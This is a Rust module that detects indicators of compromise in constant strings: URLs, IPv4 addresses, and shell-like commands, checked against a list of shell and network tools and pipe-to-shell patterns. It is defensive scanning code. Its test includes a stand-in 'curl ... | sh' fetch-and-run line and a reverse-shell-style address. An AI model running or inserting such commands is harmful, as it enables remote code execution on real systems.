//! Indicators of compromise in constant strings: URLs, IPv4 addresses, shell commands.

/// Programs whose name at the start of a string marks it as a shell command.
const SHELL_PROGRAMS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "csh",
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "ssh",
    "scp",
    "python",
    "python3",
    "python2",
    "perl",
    "ruby",
    "php",
    "node",
    "powershell",
    "pwsh",
    "cmd",
    "cmd.exe",
    "touch",
    "rm",
    "chmod",
    "chown",
    "mkfifo",
    "cat",
    "echo",
    "id",
    "whoami",
    "uname",
    "base64",
    "nohup",
    "crontab",
    "dd",
    "mv",
    "cp",
    "ls",
    "kill",
    "pkill",
    "env",
    "export",
    "sudo",
    "su",
    "tftp",
    "ftp",
    "certutil",
    "bitsadmin",
    "mshta",
    "rundll32",
    "regsvr32",
    "osascript",
    "open",
    "xdg-open",
    "ping",
    "nslookup",
    "dig",
    "eval",
    "exec",
    "sleep",
];

const MAX_IOC_CHARS: usize = 200;

/// Collects indicators from one constant string into `out` (deduplicated, in order).
pub(crate) fn collect(s: &str, out: &mut Vec<String>) {
    for url in urls(s) {
        push(out, url);
    }
    for ip in ipv4s(s) {
        push(out, ip);
    }
    if looks_like_shell(s) {
        push(out, s.trim().to_owned());
    }
}

fn push(out: &mut Vec<String>, item: String) {
    let item = crate::value::truncate_chars(item, MAX_IOC_CHARS);
    if out.len() < 32 && !out.contains(&item) {
        out.push(item);
    }
}

fn urls(s: &str) -> Vec<String> {
    let mut found = Vec::new();
    let lower = s.to_ascii_lowercase();
    for scheme in ["http://", "https://", "ftp://", "tcp://", "udp://"] {
        let mut from = 0;
        while let Some(i) = lower.get(from..).and_then(|t| t.find(scheme)) {
            let start = from + i;
            let end = s[start..]
                .find(|c: char| c.is_whitespace() || "'\"<>|;`)(".contains(c))
                .map_or(s.len(), |e| start + e);
            if end > start + scheme.len() {
                found.push((start, s[start..end].to_owned()));
            }
            from = end.max(start + scheme.len());
        }
    }
    found.sort();
    found.into_iter().map(|(_, u)| u).collect()
}

fn ipv4s(s: &str) -> Vec<String> {
    let bytes = s.as_bytes();
    let mut found = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        let boundary = i == 0 || !(bytes[i - 1].is_ascii_alphanumeric() || bytes[i - 1] == b'.');
        if boundary
            && bytes[i].is_ascii_digit()
            && let Some(len) = ipv4_at(&bytes[i..])
        {
            found.push(s[i..i + len].to_owned());
            i += len;
            continue;
        }
        i += 1;
    }
    found
}

/// Length of a dotted-quad IPv4 address at the start of `b`.
fn ipv4_at(b: &[u8]) -> Option<usize> {
    let mut pos = 0;
    for part in 0..4 {
        if part > 0 {
            if b.get(pos) != Some(&b'.') {
                return None;
            }
            pos += 1;
        }
        let start = pos;
        let mut val: u32 = 0;
        while let Some(d) = b.get(pos).filter(|d| d.is_ascii_digit()) {
            val = val * 10 + u32::from(d - b'0');
            pos += 1;
            if pos - start > 3 {
                return None;
            }
        }
        if pos == start || val > 255 {
            return None;
        }
    }
    let next_ok = match b.get(pos) {
        None => true,
        Some(c) => {
            !(c.is_ascii_alphanumeric()
                || (*c == b'.' && b.get(pos + 1).is_some_and(u8::is_ascii_digit)))
        }
    };
    next_ok.then_some(pos)
}

/// Whether a string reads like a shell command line.
pub(crate) fn looks_like_shell(s: &str) -> bool {
    let t = s.trim();
    if t.len() < 2 || t.contains('\n') && t.lines().count() > 20 {
        return false;
    }
    let first = t.split_whitespace().next().unwrap_or("");
    let prog = first.rsplit(['/', '\\']).next().unwrap_or(first);
    let has_args = t.split_whitespace().nth(1).is_some();
    if SHELL_PROGRAMS.contains(&prog) && (has_args || first.contains('/')) {
        return true;
    }
    let pipes_to_shell = [
        "| sh",
        "|sh",
        "| bash",
        "|bash",
        "$(",
        "`",
        "&& ",
        "; rm ",
        "/dev/tcp/",
    ];
    pipes_to_shell.iter().any(|p| t.contains(p)) && t.contains(' ')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_iocs() {
        let mut out = Vec::new();
        collect("curl http://x.y/a.sh | sh", &mut out);
        assert_eq!(
            out,
            vec![
                "http://x.y/a.sh".to_owned(),
                "curl http://x.y/a.sh | sh".to_owned()
            ]
        );
        let mut out = Vec::new();
        collect("connect to 10.0.0.1:4444 now", &mut out);
        assert_eq!(out, vec!["10.0.0.1".to_owned()]);
        let mut out = Vec::new();
        collect("version 1.2.3.4.5 and weight", &mut out);
        assert!(out.is_empty());
        let mut out = Vec::new();
        collect("layer.weight", &mut out);
        assert!(out.is_empty());
    }
}
